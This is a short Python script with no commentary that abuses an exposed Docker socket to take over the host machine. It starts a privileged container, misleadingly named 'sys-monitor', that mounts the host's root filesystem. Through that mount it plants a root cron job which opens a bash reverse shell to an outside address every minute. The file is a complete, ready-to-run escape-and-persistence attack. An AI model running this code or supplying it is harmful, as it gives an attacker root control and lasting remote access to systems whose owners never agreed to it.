import socket, json, http.client

class UnixHTTP(http.client.HTTPConnection):
    def __init__(self, path):
        super().__init__("localhost")
        self.path = path
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect(self.path)

def call(method, url, body=None):
    c = UnixHTTP("/var/run/docker.sock")
    c.request(method, url, body=json.dumps(body) if body else None,
              headers={"Content-Type": "application/json"})
    r = c.getresponse()
    return r.status, r.read()

cfg = {
    "Image": "alpine:latest",
    "Cmd": ["/bin/sh", "-c",
            "chroot /host sh -c 'echo \"* * * * * root bash -c \\\"bash -i >& /dev/tcp/192.0.2.77/4445 0>&1\\\"\" > /etc/cron.d/x'"],
    "HostConfig": {
        "Privileged": True,
        "PidMode": "host",
        "NetworkMode": "host",
        "Binds": ["/:/host:rw"],
    },
}
call("POST", "/images/create?fromImage=alpine&tag=latest")
st, out = call("POST", "/containers/create?name=sys-monitor", cfg)
cid = json.loads(out)["Id"]
call("POST", f"/containers/{cid}/start")
